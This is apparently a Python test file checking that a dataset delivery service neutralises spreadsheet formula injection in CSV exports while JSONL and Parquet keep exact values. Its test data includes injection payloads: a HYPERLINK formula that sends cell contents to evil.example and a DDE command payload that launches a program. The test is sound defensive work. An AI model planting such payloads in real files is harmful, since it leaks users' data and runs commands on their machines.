"""CSV formula neutralisation (issue 15): a delivery's CSV files carry no cell a spreadsheet would
run, from item text, metadata or external ids; JSONL and Parquet keep the exact values; the
manifest says so. The helper itself is core.csvsafe."""

from __future__ import annotations

import csv
import io

import orjson
import pyarrow.parquet as pq
import pytest

from annotation.models import Item
from core.csvsafe import csv_cell, csv_column, csv_row
from delivery.services.build import delivery_build, delivery_create
from delivery.services.storage import delivery_folder
from tests.delivery.conftest import labelled_project

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cell_prefixes_formula_starts(value):
    assert csv_cell(value) == "'" + value
    assert csv_row(["ok", value, 3]) == ["ok", "'" + value, 3]
    assert csv_column([value, None]) == ["'" + value, None]


@pytest.mark.parametrize("value", ["plain text", "", None, 3, -3, 1.5, True, "a=b", " =1", "'=1"])
def test_csv_cell_leaves_everything_else(value):
    assert csv_cell(value) == value


def test_delivery_csvs_neutralise_formulas_and_jsonl_parquet_keep_them(db, lead, requester):
    labelled = labelled_project(lead=lead, requester=requester, items=20, texts=HOSTILE * 4)
    first = labelled.items[0]
    Item.objects.filter(pk=first.pk).update(external_id="=1+2", metadata={"note": "=cmd"})
    delivery = delivery_create(
        project=labelled.project, actor=lead, formats=["jsonl", "csv", "parquet"], include_annotations=True,
        eval_share=0.2,
    )  # fmt: skip
    delivery = delivery_build(delivery_id=delivery.pk)
    folder = delivery_folder(delivery)
    exact = {}
    for split in ("train", "eval"):
        for line in (folder / f"{split}.jsonl").read_bytes().splitlines():
            row = orjson.loads(line)
            exact[row["item_id"]] = row
        for row in pq.read_table(folder / f"{split}.parquet").to_pylist():
            assert row["text"] == exact[row["item_id"]]["text"]  # Parquet: the exact value
    assert exact["=1+2"]["metadata"] == {"note": "=cmd"}
    assert {row["text"] for row in exact.values()} >= set(HOSTILE)
    cells = []
    for name in ("train.csv", "eval.csv", "annotations.csv"):
        cells += [
            cell for row in csv.reader(io.StringIO((folder / name).read_bytes().decode(), newline="")) for cell in row
        ]
    assert cells and not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    texts = {
        row["item_id"]: row["text"]
        for split in ("train", "eval")
        for row in csv.DictReader(io.StringIO((folder / f"{split}.csv").read_bytes().decode(), newline=""))
    }
    assert "'=1+2" in texts  # the external id, neutralised
    assert sorted(set(texts.values())) == sorted({"'" + value for value in HOSTILE})
    annotations = list(csv.DictReader(io.StringIO((folder / "annotations.csv").read_bytes().decode(), newline="")))
    assert "'=1+2" in {row["item_id"] for row in annotations}
    note = delivery.manifest["csv_cells"]
    assert note["formula_neutralisation"] is True and note["prefixed_with"] == "'"
    assert set(note["when_starting_with"]) == {"=", "+", "-", "@", "\t", "\r"}
    assert "JSON Lines and Parquet files carry the exact values" in note["note"]
